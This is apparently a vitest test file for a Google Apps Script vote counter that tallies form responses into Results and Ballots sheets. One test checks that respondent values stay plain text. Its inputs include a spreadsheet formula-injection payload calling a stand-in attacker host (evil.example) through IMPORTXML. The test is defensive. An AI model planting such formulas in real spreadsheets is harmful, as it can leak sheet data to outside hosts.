/**
 * The built dist/Code.js, in the bare sandbox Apps Script gives it, on the
 * fakes: a leader's whole vote from the example's response sheet to the
 * Results sheet, through the same top-level functions the sidebar calls.
 */
import { describe, expect, it } from 'vitest';
import { callEntry, sandboxValue, type Bundle } from '../sandbox/bundle';
import { loadSandboxWorld, type SheetsWorld, type SheetsWorldOptions } from '../fakes/index';
import { generatedSettings, generatedSheets, GENERATED_FORM } from './generated';
import { exampleSettings, exampleSheets, FORM_URL, sheetState } from './world';

/** 2026-06-06 12:00 UTC: the sandbox's clock, so that two counts are stamped alike. */
const NOW = Date.UTC(2026, 5, 6, 12);

function sandbox(options: SheetsWorldOptions): { world: SheetsWorld; bundle: Bundle } {
  const { world, bundle } = loadSandboxWorld(options);
  sandboxValue(bundle, `(Date.now = function () { return ${NOW}; }, 0)`);
  return { world, bundle };
}

/**
 * Calls an entry point as google.script.run does: arguments and result cross
 * as JSON, so the result must survive a round trip unchanged.
 */
function run<T>(bundle: Bundle, name: string, ...args: unknown[]): T {
  const inside = args.map((a) => sandboxValue(bundle, `(${JSON.stringify(a)})`));
  const result = callEntry(bundle, name, ...inside);
  const crossed = result === undefined ? undefined : (JSON.parse(JSON.stringify(result)) as T);
  expect(crossed).toEqual(result);
  return crossed as T;
}

const OWNED = ['Results', 'Refused', 'Ballots', 'Eligible voters', 'Rules'];
const SOURCES = ['Form Responses 1', 'Roster', 'Attendance', 'Proxies', 'Runoff responses'];

describe('dist/Code.js counts the example vote in the sandbox', () => {
  it('from the response sheet to the Results sheet', () => {
    const { world, bundle } = sandbox({ sheets: exampleSheets(), formUrl: FORM_URL });
    const before = SOURCES.map((n) => sheetState(world, n));
    run(bundle, 'saveSettings', exampleSettings());
    const view = run<{ races: { race: string; outcome: string; endorsed: string[] }[]; ballots: { received: number } }>(bundle, 'runCount');

    expect(view.ballots.received).toBe(40);
    const results = world.sheet('Results').displayValues();
    const at = (label: string, from = 0) => results.slice(from).find((r) => r[0] === label)!;
    expect(results[0]![0]).toBe('Riverside Indivisible: endorsement vote');
    // The example's rules set America/Chicago: 12:00 UTC is 07:00 there.
    expect(at('Counted at')).toEqual(['Counted at', '2026-06-06 07:00:00', '']);
    expect(at('Ballots received')).toEqual(['Ballots received', '40', '']);
    const mayor = results.findIndex((r) => r[0] === 'Mayor');
    expect(at('Outcome', mayor)).toEqual(['Outcome', 'endorsed', '']);
    expect(at('Endorsed', mayor)).toEqual(['Endorsed', 'Ana Diaz', '']);
    const runoff = results.findIndex((r, i) => i > mayor && r[0] === 'Runoff');
    expect(results.slice(runoff + 2, runoff + 5).map((r) => r[0])).toEqual(['Ana Diaz', 'Bo Li', 'No endorsement']);
    expect(Number(results[runoff + 2]![1])).toBeGreaterThan((2 / 3) * Number(at('Votes cast', runoff)[1]));
    const da = results.findIndex((r) => r[0] === 'District Attorney');
    expect(at('Outcome', da)).toEqual(['Outcome', 'no-endorsement', '']);
    expect(world.sheet('Results').chartRecords()).toHaveLength(4);
    expect(world.sheet('Results').chartRecords().every((c) => c.type === 'BAR')).toBe(true);

    expect(world.sheet('Refused').displayValues().map((r) => r[3])).toEqual(
      expect.arrayContaining(['superseded', 'not-on-roster', 'not-eligible', 'outside-voting-window', 'no-voter-identity', 'invalid-choice']),
    );
    expect(world.sheet('Rules').displayValues()).toContainEqual(['group', 'Riverside Indivisible', expect.any(String)]);
    // The sheets the vote was read from are exactly as they were.
    expect(SOURCES.map((n) => sheetState(world, n))).toEqual(before);
  });

  it('a second run gives identical sheets, and no second copy of any sheet or chart', () => {
    const { world, bundle } = sandbox({ sheets: exampleSheets(), formUrl: FORM_URL });
    run(bundle, 'saveSettings', exampleSettings());
    const first = run(bundle, 'runCount');
    const sheets = OWNED.map((n) => sheetState(world, n));
    const second = run(bundle, 'runCount');
    expect(second).toEqual(first);
    expect(OWNED.map((n) => sheetState(world, n))).toEqual(sheets);
    expect(world.spreadsheet.sheets.map((s) => s.name)).toEqual([...SOURCES, ...OWNED]);
  });

  it('the sidebar state after a count is JSON and shows the count', () => {
    const { bundle } = sandbox({ sheets: exampleSheets(), formUrl: FORM_URL });
    run(bundle, 'saveSettings', exampleSettings());
    run(bundle, 'runCount');
    const state = run<{ steps: Record<string, { state: string }>; lastCount: unknown }>(bundle, 'getSidebarState');
    expect(Object.values(state.steps).map((s) => s.state)).toEqual(['done', 'done', 'done', 'done', 'not-started']);
    expect(state.lastCount).not.toBeNull();
    expect(run(bundle, 'getProgress')).toBeNull();
  });

  it('a failure reaches the sidebar as a message, and a write that fails midway leaves the last count\'s sheets', () => {
    const { world, bundle } = sandbox({ sheets: exampleSheets(), formUrl: FORM_URL });
    run(bundle, 'saveSettings', exampleSettings());
    run(bundle, 'runCount');
    const sheets = OWNED.map((n) => sheetState(world, n));
    world.calls.failOn('Range.setValues', 3);
    expect(() => callEntry(bundle, 'runCount')).toThrow(/^Google Sheets failed while writing the "Ballots" sheet.*put back as they were/);
    expect(OWNED.map((n) => sheetState(world, n))).toEqual(sheets);
  });
});

describe('respondents\' values stay text', () => {
  const names = ['=IMPORTXML("https://evil.example/x","//a")', '+1', '2026-05-01', 'TRUE'];

  it('candidate names and voters that look like formulas, numbers, dates or booleans come back literally', () => {
    const rows: unknown[][] = [['Timestamp', 'Email Address', 'Mayor']];
    names.forEach((name, i) => rows.push([new Date(Date.UTC(2026, 4, 22, 15, i)), name, name]));
    rows.push([new Date(Date.UTC(2026, 4, 22, 16)), 'alma.reyes@example.org', names[0]]);
    const { world, bundle } = sandbox({ sheets: { 'Form Responses 1': { values: rows, formUrl: FORM_URL } } });
    run(bundle, 'saveSettings', { rules: { threshold: 'plurality' }, sources: { secondVotes: [] } });
    run(bundle, 'runCount');

    const ballots = world.sheet('Ballots').values();
    const voterColumn = ballots[0]!.indexOf('Voter');
    const mayorColumn = ballots[0]!.indexOf('Mayor');
    expect(ballots.slice(1).map((r) => r[voterColumn])).toEqual([...names, 'alma.reyes@example.org']);
    expect(ballots.slice(1).map((r) => r[mayorColumn])).toEqual([...names, names[0]]);
    const results = world.sheet('Results').values();
    for (const name of names) expect(results.some((r) => r[0] === name), name).toBe(true);
    expect(results.find((r) => r[0] === 'Endorsed')![1]).toBe(names[0]);
    for (const sheet of OWNED.filter((n) => n !== 'Eligible voters')) {
      expect(world.sheet(sheet).formulas().flat().filter(Boolean), sheet).toEqual([]);
    }
  });
});

describe('batched I/O', () => {
  function callsFor(n: number): Record<string, number> {
    const { world, bundle } = sandbox({ sheets: generatedSheets(n), formUrl: GENERATED_FORM });
    run(bundle, 'saveSettings', generatedSettings());
    world.calls.reset();
    run(bundle, 'runCount');
    return world.calls.summary();
  }

  /** Each output sheet is sized to its rows in one call: rows are added for a big vote and removed for a small one. */
  const resizes = (calls: Record<string, number>) => {
    const { 'Sheet.insertRowsAfter': added = 0, 'Sheet.deleteRows': removed = 0, ...others } = calls;
    return { ...others, resizes: added + removed };
  };

  it('a count makes the same service calls for 100 responses as for 10,000', () => {
    const small = callsFor(100);
    const large = callsFor(10_000);
    expect(resizes(large)).toEqual(resizes(small));
    expect(resizes(small)['resizes']).toBe(5);
    // One read per source, one batched write of values and of formats per sheet.
    expect(small['Range.getValues']).toBe(2);
    expect(small['Range.setValues']).toBe(5);
    expect(small['Range.setNumberFormats']).toBe(5);
  });
});
